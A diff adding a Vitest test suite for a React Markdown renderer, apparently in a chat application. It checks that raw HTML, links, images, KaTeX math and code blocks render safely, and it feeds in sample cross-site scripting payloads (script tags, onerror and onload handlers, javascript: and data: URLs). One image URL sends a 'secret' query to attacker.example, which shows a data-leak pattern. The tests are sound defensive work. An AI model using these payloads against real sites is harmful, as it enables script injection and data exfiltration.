@@ -1,0 +1,113 @@
+import { act, fireEvent, render, screen } from "@testing-library/react";
+import { beforeAll, describe, expect, it } from "vitest";
+import { Markdown } from "@/components/markdown/markdown";
+import { loadHighlight, loadMath } from "@/components/markdown/markdown-extras";
+
+beforeAll(async () => {
+  await Promise.all([loadMath(), loadHighlight()]);
+});
+
+function renderMarkdown(text: string): HTMLElement {
+  const { container } = render(<Markdown text={text} />);
+  return container;
+}
+
+/** Nothing in the output can run code: no script/style/iframe/object, no on* attributes, no js: URLs. */
+function expectInert(container: HTMLElement) {
+  expect(container.querySelector("script, style, iframe, object, embed, foreignObject")).toBeNull();
+  for (const element of container.querySelectorAll("*")) {
+    for (const attribute of element.attributes) {
+      expect(attribute.name.startsWith("on"), `${element.tagName} ${attribute.name}`).toBe(false);
+      expect(attribute.value).not.toMatch(/^\s*(javascript|vbscript|data):/i);
+    }
+  }
+}
+
+describe("Markdown sanitising", () => {
+  it("shows raw HTML script tags as text, never as elements", () => {
+    const container = renderMarkdown('Hello <script>alert("x")</script> world');
+    expect(container.querySelector("script")).toBeNull();
+    expect(container.textContent).toContain("Hello");
+    expect(container.textContent).toContain('<script>alert("x")</script>');
+    expectInert(container);
+  });
+
+  it("does not create images with onerror handlers from HTML", () => {
+    const container = renderMarkdown(
+      '<img src="x" onerror="alert(1)">\n\n<svg onload="alert(1)"></svg>',
+    );
+    expect(container.querySelector("img")).toBeNull();
+    expect(container.querySelector("svg")).toBeNull();
+    expectInert(container);
+  });
+
+  it("drops javascript: links and keeps safe ones opening in a new tab", () => {
+    const container = renderMarkdown(
+      "[bad](javascript:alert(1)) [also bad](JaVaScRiPt:alert(1)) [data](data:text/html,hi) [good](https://example.com/a) [mail](mailto:a@b.c) [rel](/conversations/x)",
+    );
+    const links = [...container.querySelectorAll("a")];
+    expect(links.map((a) => a.getAttribute("href"))).toEqual([
+      "https://example.com/a",
+      "mailto:a@b.c",
+    ]);
+    for (const link of links) {
+      expect(link.getAttribute("target")).toBe("_blank");
+      expect(link.getAttribute("rel")).toBe("noopener noreferrer");
+    }
+    expect(container.textContent).toContain("bad");
+    expectInert(container);
+  });
+
+  it("turns images into click-to-load placeholders that request nothing", () => {
+    const container = renderMarkdown("Look: ![secret](https://attacker.example/?q=secret)");
+    expect(container.querySelector("img")).toBeNull();
+    const button = screen.getByRole("button", { name: "Load image from attacker.example" });
+    fireEvent.click(button);
+    const img = container.querySelector("img");
+    expect(img?.getAttribute("src")).toBe("https://attacker.example/?q=secret");
+    expect(img?.getAttribute("referrerpolicy")).toBe("no-referrer");
+  });
+
+  it("never loads javascript: or data: images", () => {
+    const container = renderMarkdown(
+      "![x](javascript:alert(1)) ![y](data:image/svg+xml,<svg onload=alert(1)>)",
+    );
+    expect(container.querySelector("img")).toBeNull();
+    expect(screen.queryByRole("button", { name: /Load image/ })).toBeNull();
+    expectInert(container);
+  });
+
+  it("renders math with KaTeX and keeps bad or hostile TeX inert", () => {
+    const container = renderMarkdown(
+      "Inline $x^2$ and\n\n$$\n\\frac{a}{b}\n$$\n\nBad $\\frac{$ and $\\href{javascript:alert(1)}{click}$ and $\\htmlStyle{color:red}{x}$ and \\(\\sqrt{2}\\)",
+    );
+    expect(container.querySelectorAll(".katex").length).toBeGreaterThanOrEqual(3);
+    expect(container.querySelector(".katex-display")).not.toBeNull();
+    expect(container.querySelector("a[href^='javascript']")).toBeNull();
+    expectInert(container);
+  });
+
+  it("highlights code with a language label and a copy button", () => {
+    const container = renderMarkdown("```python\ndef f():\n    return '<script>'\n```");
+    expect(container.querySelector(".code-block__lang")?.textContent).toBe("python");
+    expect(container.querySelector("code.hljs .hljs-keyword")).not.toBeNull();
+    expect(container.querySelector("script")).toBeNull();
+    expect(screen.getByRole("button", { name: "Copy code" })).toBeTruthy();
+  });
+
+  it("renders GitHub tables and task lists", () => {
+    const container = renderMarkdown("| a | b |\n|---|---|\n| 1 | 2 |\n\n- [x] done\n- [ ] todo");
+    expect(container.querySelectorAll("table td")).toHaveLength(2);
+    expect(container.querySelectorAll("input[type=checkbox]")).toHaveLength(2);
+  });
+
+  it("re-renders only the block that changed", async () => {
+    const { container, rerender } = render(<Markdown text={"First paragraph.\n\nSecond"} />);
+    const first = container.querySelector(".markdown > p");
+    await act(async () => {
+      rerender(<Markdown text={"First paragraph.\n\nSecond grows"} />);
+    });
+    expect(container.querySelector(".markdown > p")).toBe(first);
+    expect(container.textContent).toContain("Second grows");
+  });
+});
